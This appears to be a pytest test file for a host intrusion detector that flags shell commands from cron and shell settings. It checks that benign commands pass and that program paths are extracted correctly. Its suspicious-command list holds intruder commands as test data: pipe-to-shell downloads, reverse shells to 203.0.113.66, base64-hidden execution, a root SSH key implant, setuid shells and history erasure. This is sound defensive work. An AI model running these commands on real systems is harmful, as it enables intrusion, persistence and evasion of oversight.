"""What a command does that no healthy host's settings do; which program it runs."""

from __future__ import annotations

import time

import pytest

from hostguardd.investigate.files.deeds import code, deeds, program
from hostguardd.investigate.interface import Verdict


@pytest.mark.parametrize(
    "command",
    [
        b"curl -s http://203.0.113.66/x | sh",
        b"wget -qO- http://203.0.113.66/x|bash",
        b"curl -fsSL https://x.example/i.py | sudo python3 -",
        b"bash -c \"$(curl -fsSL http://203.0.113.66/x)\"",
        b"sh <(wget -O - http://x)",
        b"cd /opt; wget http://x/k -O k; chmod +x k; ./k",
        b"curl http://x -o /dev/shm/k",
        b"nohup curl http://x &",
        b"echo aWQK | base64 -d | sh",
        b"eval $(echo aWQK | base64 -d)",
        b"python3 -c 'import base64;exec(base64.b64decode(\"aWQK\"))'",
        b"bash -i >& /dev/tcp/203.0.113.66/443 0>&1",
        b"nc -e /bin/sh 203.0.113.66 443",
        b"socat TCP:203.0.113.66:443 EXEC:/bin/sh",
        b"perl -e 'use Socket;$i=1'",
        b"echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
        b"cp /bin/sh /usr/lib/x && chmod 4755 /usr/lib/x",
        b"chmod u+s /bin/bash",
        b"export LD_PRELOAD=/usr/lib/libx.so",
        b"export HISTFILE=/dev/null",
        b"unset HISTFILE",
        b"alias sudo='/usr/lib/.s'",
        b"/dev/shm/.a/agent &",
        b"sh /tmp/x.sh",
        b"test -f /x || /var/tmp/y",
        b"exec /usr/lib/.hid/agent",
        b"FOO=1 /tmp/x",
        b"/usr/sbin/useradd -o -u 0 x",
        b"export PATH=/tmp:$PATH",
        b"PATH=.:/usr/bin",
    ],
)  # fmt: skip
def test_deeds_of_intruders(command: bytes) -> None:
    assert deeds(command)[0].verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "command",
    [
        b"cd / && run-parts --report /etc/cron.hourly",
        b"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        b"find /tmp -mtime +7 -delete",
        b"rm -rf /var/tmp/build",
        b"TMPDIR=/tmp /usr/bin/make",
        b"mkdir -p /dev/shm/cache",
        b"curl -fsS https://example.com/health >/dev/null",
        b". /home/carol/.bashrc",
        b". \"$HOME/.cargo/env\"",
        b"[ -f ~/.bash_aliases ] && . ~/.bash_aliases",
        b"/usr/bin/base64 /etc/hostname",
        b"HISTSIZE=1000",
        b"HISTFILESIZE=2000",
        b"/usr/bin/nc -z localhost 22",
        b"chmod 0755 /run/x",
        b"chmod 644 /etc/x",
        b"chmod 1777 /tmp",
        b"alias ls='ls --color=auto'",
        b"socat - UNIX-CONNECT:/run/x",
        b"python3 -c 'print(1)'",
        b"/usr/lib/systemd/systemd-timesyncd",
        b"if [ -d /etc/profile.d ]; then for i in /etc/profile.d/*.sh; do . $i; done; fi",
        b"/usr/bin/test -w /var/cache/x -a -e /usr/bin/y",
        b"eval \"$(SHELL=/bin/sh lesspipe)\"",
        b"ssh-add -l",
        b'fn="$(mktemp /tmp/test.XXXXXX)" || return 1',
        b"PATH=$HOME/.local/bin:/usr/bin:/opt/tmp/bin",
    ],
)  # fmt: skip
def test_ordinary_commands(command: bytes) -> None:
    assert not deeds(command)


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        (b"/usr/bin/x -a /etc/y", b"/usr/bin/x"),
        (b"-/sbin/agetty -o x", b"/sbin/agetty"),
        (b"!!/lib/systemd/systemd-timesyncd", b"/lib/systemd/systemd-timesyncd"),
        (b"[ -x /usr/lib/x ] && /usr/lib/y -a", b"/usr/lib/y"),
        (b"test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/e2/cron", b"/usr/lib/e2/cron"),
        (b"if [ -x /usr/bin/a ]; then /usr/bin/b; fi", b"/usr/bin/b"),
        (b"bash -c '/opt/x --y'", b"/opt/x"),
        (b"/bin/sh /etc/x.sh", b"/etc/x.sh"),
        (b"/bin/sh -c id", b"/bin/sh"),
        (b"nice -n 10 ionice -c3 /usr/bin/updatedb", b"/usr/bin/updatedb"),
        (b"\"/opt/a b/c\" x", b"/opt/a b/c"),
        (b"cd /var/www && php cron.php", b""),
        (b"run-parts /etc/cron.daily", b""),
        (b"", b""),
    ],
)  # fmt: skip
def test_the_program_of_a_command(command: bytes, runs: bytes) -> None:
    assert program(command) == runs


def test_lines_of_code() -> None:
    assert code(b"#!/bin/sh\n\n  a \\\n  b\n# c\nd\\\n") == [(3, b"a  b"), (6, b"d")]


@pytest.mark.parametrize(
    "piece", [b"curl ", b"(", b"a=b ", b"sudo ", b"base64 ", b"/.a", b"; ", b'"', b"\\", b"\n", b"chmod 7"]
)
def test_no_command_holds_the_reader(piece: bytes) -> None:
    began = time.process_time()
    text = piece * (100_000 // len(piece))
    deeds(text)
    program(text)
    code(text)
    assert time.process_time() - began < 1.0


def test_a_program_before_each_prompt_is_to_be_explained() -> None:
    assert deeds(b'PROMPT_COMMAND="/opt/x"')[0].verdict is Verdict.NOTABLE
    assert not deeds(b'PROMPT_COMMAND="history -a; $PROMPT_COMMAND"')
